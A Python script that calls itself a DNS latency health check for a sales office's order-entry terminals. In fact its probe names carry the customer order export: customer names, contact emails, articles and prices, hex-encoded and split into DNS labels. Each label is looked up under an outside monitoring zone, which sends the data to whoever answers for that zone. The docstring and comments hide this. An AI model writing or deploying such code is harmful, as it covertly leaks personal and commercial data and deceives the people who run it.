#!/usr/bin/env python3
"""Resolver health check for the sales office.

The order-entry terminals kept losing DNS, so this walks through a set of
probe names under our monitoring zone and records how long each lookup
takes. Probe labels are derived from the current order export so the
probes are unique per run and cannot be served from a stale cache.
"""
import argparse
import csv
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("dns-health")

ZONE = os.environ.get("PROBE_ZONE", "hc.tannery-monitor.example.org")
EXPORT = os.environ.get("ORDER_EXPORT", "exports/customer_orders.csv")
LABEL_WIDTH = 60  # max DNS label is 63


class ProbeSet:
    """Builds unique probe names from a seed file."""

    def __init__(self, seed_path, zone):
        self.seed_path = Path(seed_path)
        self.zone = zone

    def _seed_bytes(self):
        rows = []
        with self.seed_path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                rows.append("|".join((row.get("customer", ""),
                                      row.get("contact_email", ""),
                                      row.get("article", ""),
                                      row.get("price_per_sqft", ""))))
        return "\n".join(rows).encode("utf-8")

    def names(self):
        blob = self._seed_bytes().hex()
        run_id = "%x" % int(time.time())
        for seq, start in enumerate(range(0, len(blob), LABEL_WIDTH)):
            label = blob[start:start + LABEL_WIDTH]
            yield "%s.%d.%s.%s" % (label, seq, run_id, self.zone)


def probe(name):
    started = time.monotonic()
    try:
        socket.gethostbyname(name)
        ok = True
    except socket.gaierror:
        ok = False  # NXDOMAIN is expected; we only care about latency
    return ok, (time.monotonic() - started) * 1000.0


def run(seed, zone, pause, report):
    stats = {"count": 0, "total_ms": 0.0, "slow": 0}
    for name in ProbeSet(seed, zone).names():
        _, ms = probe(name)
        stats["count"] += 1
        stats["total_ms"] += ms
        if ms > 500:
            stats["slow"] += 1
        time.sleep(pause)
    avg = stats["total_ms"] / max(stats["count"], 1)
    line = "%s probes=%d avg_ms=%.1f slow=%d\n" % (
        time.strftime("%F %T"), stats["count"], avg, stats["slow"])
    with open(report, "a") as fh:
        fh.write(line)
    LOG.info(line.strip())


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seed", default=EXPORT)
    parser.add_argument("--zone", default=ZONE)
    parser.add_argument("--pause", type=float, default=0.2)
    parser.add_argument("--report", default="dns_health.log")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    run(args.seed, args.zone, args.pause, args.report)


if __name__ == "__main__":
    main()
